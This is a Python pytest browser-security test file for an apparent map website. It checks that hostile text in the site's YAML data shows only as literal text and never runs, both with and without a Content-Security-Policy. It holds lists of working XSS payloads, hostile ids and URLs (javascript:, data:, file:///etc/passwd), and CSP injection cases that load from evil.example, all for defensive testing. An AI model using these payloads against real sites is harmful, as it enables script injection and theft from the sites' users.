"""Browser security (issue 7, part 3): hostile text from routes.yaml never runs in the map page.

Every payload below goes into every text field of routes.yaml that reaches the site.  The page
is opened in headless Chromium twice: as built (with its Content-Security-Policy) and with the
policy removed, so escaping alone is shown to hold.  A payload "ran" if a dialog opened,
``window.__xss`` was set, a CSP violation was reported, a request went anywhere but the site's
own files, or an element, attribute or link it describes exists in the DOM.  Each shown field
must read back, via ``textContent``, exactly as written, where the page shows it: list item,
event / route / place popup, route list, place label.

Ids cannot carry payloads (validation refuses them), nor can links (only http(s) URLs pass);
the page refuses non-http(s) links on its own too, checked by tampering with ``data.js``.
"""

from __future__ import annotations

import datetime as dt
import json
import re
import shutil
from collections import Counter
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from browser_util import TILE_HOST, PageWatch, build_site, serve, wait_ready
from playwright.sync_api import Error as PlaywrightError
from summary import add, record

from geo.errors import DataError
from geo.site.payload import MONTHS, js_assignment
from geo.validate import load_dataset, validate_text

DATA = Path(__file__).parent / "data"

# Each payload tries to set window.__xss, open a dialog, or make a request, if it ever
# became markup.  "x" as an image source would be a request for /x: a detectable probe.
PAYLOADS = {
    "script tag": "<script>window.__xss = 1</script>",
    "script tag, upper case": '<SCRIPT>alert("xss")</SCRIPT>',
    "script from another origin": '<script src="https://evil.example/x.js"></script>',
    "img onerror": '<img src=x onerror="window.__xss = 1">',
    "img onerror, no spaces": "<img/src/onerror=alert(1)>",
    "attribute breakout, double quote": '"><img src=x onerror=alert(1)>',
    "attribute breakout, single quote": "' onmouseover='window.__xss = 1' data-x='",
    "svg onload": "<svg onload=alert(1)>",
    "svg script": "<svg><script>window.__xss = 1</script></svg>",
    "svg javascript link": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "body onload": '<body onload="window.__xss = 1">',
    "details ontoggle": "<details open ontoggle=alert(1)>",
    "input autofocus": '<input autofocus onfocus="window.__xss = 1">',
    "iframe javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "link to javascript": '<a href="javascript:window.__xss = 1">click me</a>',
    "javascript: URL": "javascript:alert(document.domain)",
    "javascript: URL, mixed case": "JaVaScRiPt:window.__xss = 1",
    "data: URL": "data:text/html,<script>alert(1)</script>",
    "data: URL, base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "object data": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "named entities": "&lt;script&gt;window.__xss = 1&lt;/script&gt; &amp; &quot;",
    "numeric entities": "&#60;img src=x onerror=alert(1)&#62; &#x3C;svg onload=alert(1)&#x3E;",
    "entity in a URL scheme": "javascript&colon;alert(1) &#106;avascript:alert(1)",
    "AngularJS template": "{{constructor.constructor('window.__xss = 1')()}}",
    "Jinja template": "{{ 7*7 }}{% if true %}yes{% endif %}{# hidden #} {{ config }}",
    "JS template literal": "`${window.__xss = 1}` ${alert(1)}",
    "other template syntaxes": "{{{html}}} <%= 7*7 %> #{7*7} [[7*7]] {{> partial}}",
    "</script> inside JSON": "</script><script>window.__xss = 1</script>",
    "JSON string breakout": '"}]};window.__xss = 1;//</script><!--',
    "comment and CDATA": "<!--<script>alert(1)</script>--> <![CDATA[<script>alert(1)</script>]]>",
    "JS line separators": "before\u2028between\u2029after</script><script>alert(1)</script>",
    "mutation XSS, math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "mutation XSS, noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "filter evasion": "<scr<script>ipt>window.__xss = 1</scr</script>ipt>",
    "closing other elements": "</textarea></title></style></noscript><script>alert(1)</script>",
    "style import": "<style>@import url(https://evil.example/x.css);</style>",
    "inline style URL": '<div style="background:url(javascript:alert(1))">x</div>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base href": '<base href="https://evil.example/">',
    "form action": '<form action="https://evil.example/"><button>go</button></form>',
    "URL-encoded": "%3Cscript%3Ewindow.__xss%20%3D%201%3C%2Fscript%3E",
    "Markdown link": "[click](javascript:alert(1)) ![x](x onerror=alert(1))",
    "newline and tab inside a tag": "<scr\nipt>alert(1)</scr\tipt>",
    "mixed scripts and markup": "평양 Пхеньян 平壤 שלום مرحبا 🚆 <b>bold</b> <i>italic</i>",
    "property names": "__proto__ constructor prototype toString hasOwnProperty",
}

# Where each field ends up.  "page": the page shows it; "download": only in the GeoJSON files
# under site/data/; "unpublished": nowhere on the site (it stays in routes.yaml).
FIELDS = {
    "source outlet": "page",
    "source title": "page",
    "source author": "unpublished",
    "source notes": "unpublished",
    "place name": "page",
    "place alt_names": "page",
    "place notes": "download",
    "route name": "page",
    "route operator": "page",
    "route service": "page",
    "route notes": "page",
    "route status notes": "page",
    "event title": "page",
    "event summary": "page",
    "event people text": "page",
    "event amount text": "page",
    "event notes": "download",
}
KHASAN = "Test Khasan station"  # every payload route and movement ends at this place


def yaml_string(text: str) -> str:
    """*text* as a YAML double-quoted scalar.  JSON's escapes are a subset of YAML's; the
    characters YAML reads as line breaks (U+0085, U+2028, U+2029) are escaped too."""
    quoted = json.dumps(text, ensure_ascii=False)
    for char in ("\u0085", "\u2028", "\u2029"):
        quoted = quoted.replace(char, f"\\u{ord(char):04x}")
    return quoted


def event_day(k: int) -> dt.date:
    return dt.date(2024, 1, 1) + dt.timedelta(days=k)


def payload_blocks(payloads: list[str]) -> dict[str, str]:
    """YAML for one source, place, route and event per payload, the payload in every field."""
    sources, places, routes, events = [], [], [], []
    for k, text in enumerate(payloads):
        q = yaml_string(text)
        sources.append(
            f"  xss-source-{k}:\n    outlet: {q}\n    title: {q}\n    author: {q}\n"
            f'    notes: {q}\n    published: "2024-01"\n    url: https://example.org/xss/{k}\n'
        )
        lat, lon = 40.6 + 0.3 * (k // 8), 126.0 + 0.45 * (k % 8)
        places.append(
            f"  - id: xss-place-{k}\n    name: {q}\n    alt_names: [{q}]\n    notes: {q}\n"
            f"    kind: station\n    country: KP\n    lat: {lat:.2f}\n    lon: {lon:.2f}\n"
        )
        routes.append(
            f"  - id: xss-route-{k}\n    name: {q}\n    mode: rail\n"
            f"    via: [xss-place-{k}, t-khasan]\n    operator: {q}\n    service: {q}\n"
            f"    notes: {q}\n    status:\n"
            f'      - since: "2020"\n        status: operating\n'
            f"        sources: [xss-source-{k}]\n        notes: {q}\n"
        )
        events.append(
            f'  - id: xss-event-{k}\n    date: "{event_day(k).isoformat()}"\n'
            f"    title: {q}\n    summary: {q}\n    kind: movement\n"
            f"    from: xss-place-{k}\n    to: t-khasan\n    route: xss-route-{k}\n"
            f"    people: {{min: 10, text: {q}}}\n"
            f"    amount: {{value: 1000, currency: USD, text: {q}}}\n"
            f"    group: workers\n    direction: to_russia\n    confidence: rumoured\n"
            f"    sources: [xss-source-{k}]\n    notes: {q}\n"
        )
    return {
        "sources": "".join(sources),
        "places": "".join(places),
        "routes": "".join(routes),
        "events": "".join(events),
    }


def hostile_text(payloads: list[str]) -> str:
    """tests/data/small.yaml with the payload blocks added to each section."""
    text = (DATA / "small.yaml").read_text(encoding="utf-8")
    blocks = payload_blocks(payloads)
    for section, after in (("sources", "places"), ("places", "routes"), ("routes", "events")):
        marker = f"\n{after}:\n"
        assert text.count(marker) == 1
        text = text.replace(marker, "\n" + blocks[section] + marker)
    return text.rstrip("\n") + "\n" + blocks["events"]


# ---------------------------------------------------------------- without a browser


def test_every_payload_passes_validation_and_reads_back_unchanged(tmp_path):
    payloads = list(PAYLOADS.values())
    assert len(payloads) >= 20 and len(set(payloads)) == len(payloads)
    record("browser XSS: payloads", len(payloads))
    record("browser XSS: payloads x text fields placed", len(payloads) * len(FIELDS))
    routes = tmp_path / "routes.yaml"
    routes.write_text(hostile_text(payloads), encoding="utf-8")
    dataset = load_dataset(routes)
    for k, text in enumerate(payloads):
        source = dataset.sources[f"xss-source-{k}"]
        place = dataset.places[f"xss-place-{k}"]
        route = dataset.route(f"xss-route-{k}")
        event = next(e for e in dataset.events if e.id == f"xss-event-{k}")
        found = {
            "source outlet": source.outlet,
            "source title": source.title,
            "source author": source.author,
            "source notes": source.notes,
            "place name": place.name,
            "place alt_names": place.alt_names[0],
            "place notes": place.notes,
            "route name": route.name,
            "route operator": route.operator,
            "route service": route.service,
            "route notes": route.notes,
            "route status notes": route.status[0].notes,
            "event title": event.title,
            "event summary": event.summary,
            "event people text": event.people.text,
            "event amount text": event.amount.text,
            "event notes": event.notes,
        }
        assert found == dict.fromkeys(FIELDS, text), k


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("xss")
    routes = folder / "routes.yaml"
    routes.write_text(hostile_text(list(PAYLOADS.values())), encoding="utf-8")
    build_site(routes, folder / "site")
    return folder / "site"


def read_assignment(path: Path, name: str):
    text = path.read_text(encoding="utf-8")
    prefix = f"window.{name} = "
    assert text.startswith(prefix) and text.endswith(";\n")
    return json.loads(text[len(prefix) : -2])


def test_fields_the_page_does_not_show_stay_out_of_it(hostile_site):
    """Place and event notes reach the site only as GeoJSON string values; source authors and
    notes not at all."""
    data = read_assignment(hostile_site / "data.js", "GEO_DATA")
    assert {"author", "notes"}.isdisjoint(next(iter(data["sources"].values())))
    assert "notes" not in data["places"][0] and "notes" not in data["events"][0]
    layers = {
        name: {
            str(f["id"]): f["properties"]
            for f in json.loads((hostile_site / "data" / f"{name}.geojson").read_text("utf-8"))[
                "features"
            ]
        }
        for name in ("events", "places")
    }
    for k, text in enumerate(PAYLOADS.values()):
        assert layers["events"][f"xss-event-{k}"]["notes"] == text
        assert layers["places"][f"xss-place-{k}"]["notes"] == text


HOSTILE_IDS = [
    "<script>",
    'x" onmouseover="alert(1)',
    "javascript:alert(1)",
    "{{7*7}}",
    "ev-1'><img src=x>",
    "a b",
    "Upper",
    "-x",
    "__proto__",
    "x\u0430",  # Cyrillic a
    "x" * 81,
]


@pytest.mark.parametrize("hostile_id", HOSTILE_IDS)
@pytest.mark.parametrize(
    "where, old, new, field",
    [
        ("event id", "  - id: t-2019-09-flight\n", "  - id: {}\n", "events[1].id"),
        ("place id", "  - id: t-fnj\n", "  - id: {}\n", "places[3].id"),
        ("route id", "  - id: t-rail\n", "  - id: {}\n", "routes[1].id"),
        ("source id", "  ref-facts:\n", "  {}:\n    outlet: a\n    title: b\n"
         '    published: "2020"\n  ref-facts:\n', "sources.{}"),
        ("route of an event", "    route: t-rail\n", "    route: {}\n", "events[0].route"),
        ("source of an event", "    sources: [ref-facts]\n  - id: t-2019-09-flight\n",
         "    sources: [{}]\n  - id: t-2019-09-flight\n", "events[0].sources[0]"),
    ],
)
def test_hostile_ids_are_refused_by_validation(where, old, new, field, hostile_id):
    text = (DATA / "small.yaml").read_text(encoding="utf-8")
    assert text.count(old) == 1, where
    with pytest.raises(DataError) as err:
        validate_text(text.replace(old, new.format(yaml_string(hostile_id))))
    refused = [p for p in err.value.problems if "is not a valid id" in p.message]
    assert [p.field for p in refused] == [field.format(hostile_id)], str(err.value)


HOSTILE_URLS = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript://example.org/%0Aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://example.org/1",
    "//evil.example/x",
    "https:evil.example",
    "https://example.org/a b",
    "http://",
    "ftp://example.org/",
]


@pytest.mark.parametrize("url", HOSTILE_URLS)
def test_links_other_than_http_are_refused_by_validation(url):
    text = (DATA / "small.yaml").read_text(encoding="utf-8")
    old = "    url: https://en.wikipedia.org/wiki/Khasan%E2%80%93Rajin_railway\n"
    assert text.count(old) == 1
    with pytest.raises(DataError) as err:
        validate_text(text.replace(old, f"    url: {yaml_string(url)}\n"))
    assert [p.field for p in err.value.problems] == ["sources.ref-facts.url"], str(err.value)
    assert "is not an http(s) URL" in err.value.problems[0].message


# ---------------------------------------------------------------- in the browser

RECORD_VIOLATIONS = """
window.__violations = [];
document.addEventListener('securitypolicyviolation', e => {
    window.__violations.push(e.effectiveDirective + ' ' + e.blockedURI);
});
"""


@pytest.fixture()
def open_page(browser):
    """open_page(url) -> (page, watch): 1280x800, CSP violations recorded, map ready."""
    contexts = []

    def opener(url: str):
        context = browser.new_context(
            viewport={"width": 1280, "height": 800}, reduced_motion="reduce"
        )
        context.set_default_timeout(10_000)
        contexts.append(context)
        page = context.new_page()
        page.add_init_script(RECORD_VIOLATIONS)
        watch = PageWatch(page, tiles="stub")
        page.goto(url)
        wait_ready(page)
        return page, watch

    yield opener
    for context in contexts:
        context.close()


def site_files(site: Path) -> set[str]:
    return {"/" + str(p.relative_to(site)) for p in site.rglob("*") if p.is_file()}


def without_csp(site: Path, dest: Path) -> Path:
    """A copy of *site* whose page has no Content-Security-Policy: escaping alone must hold."""
    shutil.copytree(site, dest)
    page = dest / "index.html"
    html = page.read_text(encoding="utf-8")
    stripped = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>\n', "", html)
    assert stripped != html and "Content-Security-Policy" not in stripped
    page.write_text(stripped, encoding="utf-8")
    return dest


LIST_ITEM = """id => {
    const li = document.querySelector(`#event-list li[data-id="${id}"]`);
    if (!li) return null;
    const text = sel => { const n = li.querySelector(sel); return n ? n.textContent : null; };
    const link = li.querySelector('ul.sources li > :first-child');
    return {title: text('.ev-title'), summary: text('.ev-summary'), people: text('.ev-people'),
            where: text('.ev-where'), source: link.textContent, sourceTag: link.tagName,
            sourceHref: link.getAttribute('href')};
}"""

POPUP = """() => {
    // the newest popup: one just closed stays in the DOM while it fades out
    const box = Array.from(document.querySelectorAll('.leaflet-popup-content > .popup')).pop();
    if (!box) return null;
    const text = sel => Array.from(box.querySelectorAll(sel), n => n.textContent);
    return {kind: box.className, heading: text('h2'), kicker: text('.popup-kicker'),
            p: text(':scope > p'), people: text('.people'), summary: text('.summary'),
            history: text('.history > li'), flow: text('.flow-events > li'),
            sources: text('ul.sources > li > :first-child'), alt: text('.alt-names')};
}"""

# Elements the page never makes itself (the filter form and the date slider aside).
MARKUP_LEFT_BEHIND = """payloads => {
    const found = [];
    const foreign = [
        'script:not([src])', 'iframe', 'object', 'embed', 'base', 'form:not(#filter-form)',
        'input:not(#filter-form input):not(#date-slider):not(#date-field)'
        + ':not(#share-link):not(#search-input)',
        'meta[http-equiv="refresh"]',
        'img[src="x"]', 'svg script', 'math', 'mglyph', 'b', 'i', 'details:not(.box, .legend-box)',
    ].join(', ');
    document.querySelectorAll(foreign).forEach(n => found.push(n.outerHTML.slice(0, 80)));
    for (const n of document.querySelectorAll('*')) {
        for (const a of n.attributes) {
            if (/^on/i.test(a.name)) found.push('handler ' + a.name + ' on ' + n.tagName);
            if (/^(href|src|action|data|xlink:href|formaction)$/i.test(a.name)) {
                const url = new URL(a.value, location.href);
                const web = url.protocol === 'https:' || url.protocol === 'http:';
                if (!web) found.push('link ' + a.value.slice(0, 60));
            }
        }
    }
    const html = document.documentElement.outerHTML;  // text is serialised with < as &lt;
    payloads.forEach((p, k) => {
        if (p.includes('<') && html.includes(p)) found.push('raw payload ' + k);
    });
    return found;
}"""


def expected_list_item(k: int, text: str) -> dict:
    return {
        "title": text,
        "summary": text,
        "people": f"{text} (workers), {text}, to Russia",
        "where": f"{text} → {KHASAN}",
        "source": f"{text}: {text}",
        "sourceTag": "A",
        "sourceHref": f"https://example.org/xss/{k}",
    }


def check_event_popup(popup: dict, text: str, label: str) -> list[str]:
    problems = []
    if popup is None or "popup-event" not in popup["kind"]:
        return [f"no event popup: {popup}"]
    if popup["heading"] != [text]:
        problems.append(f"title {popup['heading']!r}")
    if f"{text} → {KHASAN} · {text}" not in popup["p"]:
        problems.append(f"place and route {popup['p']!r}")
    if popup["people"] != [f"{text} (workers), {text}, to Russia"]:
        problems.append(f"people/amount {popup['people']!r}")
    if popup["summary"] != [text]:
        problems.append(f"summary {popup['summary']!r}")
    if popup["sources"] != [f"{text}: {text}"]:
        problems.append(f"source {popup['sources']!r}")
    if popup["kicker"] != [f"Movement · {label}"]:
        problems.append(f"kicker {popup['kicker']!r}")
    return problems


def check_route_popup(popup: dict, text: str, label: str) -> list[str]:
    problems = []
    if popup is None or "popup-route" not in popup["kind"]:
        return [f"no route popup: {popup}"]
    if popup["heading"] != [text]:
        problems.append(f"name {popup['heading']!r}")
    kicker = popup["kicker"]
    pattern = rf"Rail · [\d,]+ km · {re.escape(text)} · {re.escape(text)}"
    if not (len(kicker) == 1 and re.fullmatch(pattern, kicker[0])):
        problems.append(f"operator/service {kicker!r}")
    if f"Via {text} – {KHASAN}" not in popup["p"]:
        problems.append(f"stops {popup['p']!r}")
    if text not in popup["p"]:
        problems.append(f"notes {popup['p']!r}")
    if popup["history"] != [f"2020: Operating — {text}"]:
        problems.append(f"status notes {popup['history']!r}")
    if popup["flow"] != [f"{label}: {text} ({text})"]:
        problems.append(f"flow events {popup['flow']!r}")
    if popup["sources"] != [f"{text}: {text}"]:
        problems.append(f"source {popup['sources']!r}")
    return problems


def check_place_popup(popup: dict, text: str) -> list[str]:
    if popup is None or "popup-place" not in popup["kind"]:
        return [f"no place popup: {popup}"]
    problems = []
    if popup["heading"] != [text]:
        problems.append(f"name {popup['heading']!r}")
    if popup["alt"] != [text]:
        problems.append(f"alt_names {popup['alt']!r}")
    return problems


def day_label(day: dt.date) -> str:
    return f"{day.day} {MONTHS[day.month - 1]} {day.year}"


def check_list_and_popups(page, activate) -> tuple[list[str], int]:
    """Each payload's list item, event popup, route list item and route popup."""
    problems, checks = [], 0
    while page.is_visible("#more-events"):  # the list shows 50 events at a time
        page.click("#more-events")
    for k, (name, text) in enumerate(PAYLOADS.items()):
        label = day_label(event_day(k))
        found = page.evaluate(LIST_ITEM, f"xss-event-{k}")
        if found != expected_list_item(k, text):
            problems.append(f"{name}: list item {found!r}")
        activate(f'#event-list li[data-id="xss-event-{k}"] button.ev-open')
        problems += [f"{name}: event popup {p}" for p in
                     check_event_popup(page.evaluate(POPUP), text, label)]
        activate(f'#route-list li[data-id="xss-route-{k}"] button')
        problems += [f"{name}: route popup {p}" for p in
                     check_route_popup(page.evaluate(POPUP), text, label)]
        route_name = page.text_content(f'#route-list li[data-id="xss-route-{k}"] .route-name')
        if route_name != text:
            problems.append(f"{name}: route list {route_name!r}")
        checks += 7 + 6 + 7 + 1
    return problems, checks


def check_places(page) -> tuple[list[str], int]:
    """Each payload's place label, and its popup opened by a click on the marker."""
    problems, checks = [], 0
    labels = Counter(page.evaluate(
        "Array.from(document.querySelectorAll('.place-label'), n => n.textContent)"))
    # Only the places stay on the map, so a click on a marker can only hit the marker.
    page.evaluate("() => { geoApp.map.closePopup(); }")
    page.click("#filters summary")
    for layer in ("routes", "movements", "events"):
        page.uncheck(f'input[name="layer"][value="{layer}"]')
    where = {pid: (lat, lon) for pid, lat, lon in
             page.evaluate("GEO_DATA.places.map(p => [p.id, p.lat, p.lon])")}
    box = page.locator("#map_geo").bounding_box()
    for k, (name, text) in enumerate(PAYLOADS.items()):
        if labels[text] != 1:
            problems.append(f"{name}: place label shown {labels[text]} times")
        x, y = page.evaluate(
            """([lat, lon]) => {
                geoApp.map.closePopup();
                geoApp.map.setView([lat, lon], 9, {animate: false});
                const p = geoApp.map.latLngToContainerPoint([lat, lon]);
                return [p.x, p.y];
            }""",
            where[f"xss-place-{k}"],
        )
        page.mouse.click(box["x"] + x, box["y"] + y)
        problems += [f"{name}: place popup {p}" for p in
                     check_place_popup(page.evaluate(POPUP), text)]
        checks += 3
    page.mouse.move(box["x"] + 10, box["y"] + 10)
    return problems, checks


@pytest.mark.browser
@pytest.mark.parametrize("policy", ["with CSP", "without CSP"])
def test_payloads_show_as_literal_text_and_never_run(open_page, hostile_site, tmp_path, policy):
    site = hostile_site if policy == "with CSP" else without_csp(hostile_site, tmp_path / "site")
    record("browser XSS: payloads", len(PAYLOADS))
    problems: list[str] = []
    with serve(site) as base:
        page, watch = open_page(base + "index.html#period=0")  # whole period: every flow counts
        left = []  # the page must never navigate away (meta refresh, form, javascript: link…)
        page.on("framenavigated", lambda frame: frame == page.main_frame
                and not frame.url.startswith(base + "index.html") and left.append(frame.url))

        def activate(selector: str) -> None:
            """Open an item as a reader would: a mouse click, or (second run) focus and Enter."""
            if policy == "with CSP":
                page.click(selector)
            else:
                page.focus(selector)
                page.keyboard.press("Enter")

        try:
            found, checks = check_list_and_popups(page, activate)
            problems += found
            found, more = check_places(page)
            problems += found
            add("browser XSS: literal-text checks in Chromium", checks + more)
            page.keyboard.press("Tab")
            page.wait_for_timeout(300)  # let anything that was scheduled run
            problems += page.evaluate(MARKUP_LEFT_BEHIND, list(PAYLOADS.values()))
            ran = page.evaluate("[window.__xss === undefined, window.__violations]")
        except PlaywrightError as exc:
            pytest.fail(f"the page broke ({exc.message.splitlines()[0]}); it went to {left}; "
                        f"problems so far: {problems[:5]}")
        files = site_files(site)
        strays = [u for u in watch.requests
                  if urlsplit(u).hostname != TILE_HOST and urlsplit(u).path not in files]

    assert problems == [], "\n".join(problems)
    assert watch.dialogs == [] and left == []
    assert ran == [True, []]
    assert watch.console_errors == [] and watch.page_errors == []
    assert watch.outside == [] and strays == []


# URLs written into data.js after the build, and the link the page makes of each (None: text).
TAMPERED_URLS = {
    **{url: None for url in HOSTILE_URLS if not url.startswith("https://")},
    "javascript:window.__xss = 1": None,
    "https://example.org/a b": "https://example.org/a%20b",  # the validator refuses it: harmless
    "https://example.org/ok?q=<b>&r=\"'": "https://example.org/ok?q=%3Cb%3E&r=%22%27",
}


@pytest.fixture(scope="module")
def tampered_site(tmp_path_factory) -> Path:
    """The small site with data.js edited after the build: its sources now carry links the
    validator would refuse, all cited by the February 2024 rail event."""
    site = tmp_path_factory.mktemp("tampered") / "site"
    build_site(DATA / "small.yaml", site)
    data = read_assignment(site / "data.js", "GEO_DATA")
    data["sources"] = {
        f"link-{k}": {"outlet": "Outlet", "title": f"link {k}", "published": "2024", "url": url}
        for k, url in enumerate(TAMPERED_URLS)
    }
    event = next(e for e in data["events"] if e["id"] == "t-2024-02-05-rail")
    event["sources"] = list(data["sources"])
    for route in data["routes"]:
        for change in route["history"]:
            change["sources"] = []
    (site / "data.js").write_text(js_assignment("GEO_DATA", data), encoding="utf-8")
    return site


@pytest.mark.browser
def test_the_page_links_only_http_urls_even_if_data_js_is_tampered_with(open_page, tampered_site):
    with serve(tampered_site) as base:
        page, watch = open_page(base + "index.html")
        page.click('#event-list li[data-id="t-2024-02-05-rail"] button.ev-open')
        items = page.evaluate("""() => Array.from(
            document.querySelectorAll('.leaflet-popup-content ul.sources > li > :first-child'),
            n => [n.tagName, n.textContent, n.getAttribute('href'), n.getAttribute('rel')])""")
        expected = [
            ["A", f"Outlet: link {k}", href, "noopener noreferrer"] if href else
            ["SPAN", f"Outlet: link {k}", None, None]
            for k, href in enumerate(TAMPERED_URLS.values())
        ]
        assert items == expected
        for span in page.locator(".leaflet-popup-content ul.sources > li > span").all():
            span.dispatch_event("click")  # what a link would do when clicked, a span must not
        page.wait_for_timeout(300)
        hrefs = page.evaluate("Array.from(document.querySelectorAll('[href]'), n => n.href)")
        assert all(urlsplit(h).scheme in ("http", "https") for h in hrefs), hrefs
        assert page.evaluate("[window.__xss === undefined, window.__violations]") == [True, []]
        assert page.url.startswith(base)
    assert watch.dialogs == [] and watch.page_errors == [] and watch.console_errors == []


# Each case injects markup the way a bug in the page would (innerHTML, a created element, a
# string handed to the JS engine) and tries to set window.__xss, load or send something.
CSP_CASES = {  # name: (how it is injected, what, the directive that must block it)
    "inline event handler": ("html", '<img src="x" onerror="window.__xss = 1">', "script-src-attr"),
    "javascript: link, clicked": (
        "html", '<a href="javascript:window.__xss = 1">x</a>', "script-src-elem"
    ),
    "eval": ("eval", "window.__xss = 1", "script-src"),
    "new Function": ("function", "window.__xss = 1", "script-src"),
    "setTimeout with a string": ("timer", "window.__xss = 1", "script-src"),
    "script from another origin": ("script", "https://evil.example/x.js", "script-src-elem"),
    "script from a data: URL": (
        "script", "data:text/javascript,window.__xss = 1", "script-src-elem"
    ),
    "inline <style>": ("html", "<style>body { display: none }</style>", "style-src-elem"),
    "style attribute": ("html", '<p style="display: none">x</p>', "style-src-attr"),
    "stylesheet from another origin": (
        "html", '<link rel="stylesheet" href="https://evil.example/x.css">', "style-src-elem"
    ),
    "<base>": ("html", '<base href="https://evil.example/">', "base-uri"),
    "<object>": ("html", '<object data="data:text/html,x"></object>', "object-src"),
    "form to another origin": (
        "html", '<form action="https://evil.example/"><button>go</button></form>', "form-action"
    ),
    "data: frame": (
        "html", '<iframe src="data:text/html,<script>parent.__xss = 1</script>"></iframe>',
        "frame-src",
    ),
    "image from another origin": ("html", '<img src="https://evil.example/x.png">', "img-src"),
}

INJECT = """([how, what]) => new Promise(resolve => {
    const seen = [];
    const listen = e => seen.push(e.effectiveDirective);
    document.addEventListener('securitypolicyviolation', listen);
    delete window.__xss;
    const box = document.createElement('div');
    document.body.appendChild(box);
    // Run from a timer, as page code: code evaluated by the test driver itself is exempt.
    setTimeout(() => {
        let error = null;
        try {
            if (how === 'html') box.innerHTML = what;
            else if (how === 'script') {
                const script = document.createElement('script');
                script.src = what;
                box.appendChild(script);
            }
            else if (how === 'eval') eval(what);
            else if (how === 'function') new Function(what)();
            else setTimeout(what);
        } catch (e) { error = e.name; }
        box.querySelectorAll('a, button').forEach(n => n.click());
        setTimeout(() => {
            document.removeEventListener('securitypolicyviolation', listen);
            box.remove();
            resolve({seen: Array.from(new Set(seen)), ran: window.__xss !== undefined, error,
                     still: location.href});
        }, 200);
    }, 0);
})"""


@pytest.mark.browser
def test_the_content_security_policy_blocks_what_injected_markup_would_do(open_page, hostile_site):
    """Beyond the injected <script> of test_site_browser: handlers, eval, foreign origins…"""
    with serve(hostile_site) as base:
        page, watch = open_page(base + "index.html")
        results = {}
        for name, (how, what, _) in CSP_CASES.items():
            results[name] = page.evaluate(INJECT, [how, what])
        outside = list(watch.outside)
    for name, (how, _, directive) in CSP_CASES.items():
        result = results[name]
        assert directive in result["seen"], (name, result)
        assert result["ran"] is False, name
        assert result["still"] == base + "index.html", name
        assert result["error"] == ("EvalError" if how in ("eval", "function") else None), name
    assert outside == []  # the policy stopped every outside request before it was made
    assert watch.dialogs == [] and watch.page_errors == []


@pytest.mark.browser
def test_ids_named_like_object_properties_are_plain_ids(open_page, tmp_path):
    """'constructor' is a valid id; the page must not find Object.prototype's function there."""
    text = (DATA / "small.yaml").read_text(encoding="utf-8")
    for old, new in (
        ("  ref-facts:\n", "  constructor:\n"),
        ("[ref-facts]", "[constructor]"),
        ("  - id: t-air\n", "  - id: constructor\n"),
        ("    route: t-air\n", "    route: constructor\n"),
        ('  - id: t-2017-12-22-policy\n    date: "2017-12-22"\n',
         '  - id: constructor\n    date: "2026-10-01"\n'),  # recent, with no movement line
    ):
        assert old in text, old
        text = text.replace(old, new)
    routes = tmp_path / "routes.yaml"
    routes.write_text(text, encoding="utf-8")
    build_site(routes, tmp_path / "site")
    with serve(tmp_path / "site") as base:
        page, watch = open_page(base + "index.html")
        page.click('#event-list li[data-id="constructor"] button.ev-open')
        popup = page.evaluate(POPUP)
        assert popup["heading"] == ["A policy event"]
        assert popup["sources"] == ["Reference notes: Places, routes and dates (test fixture)"]
        page.evaluate("geoApp.setDate('2019-12-01')")
        page.click('#route-list li[data-id="constructor"] button')
        popup = page.evaluate(POPUP)
        assert popup["heading"] == ["Test flight FNJ-VVO"]
        assert popup["flow"] == ["about September 2019: Workers fly home (hundreds)"]
        assert page.evaluate("geoApp.state().drawn.movements") >= 1
    assert watch.page_errors == [] and watch.console_errors == []
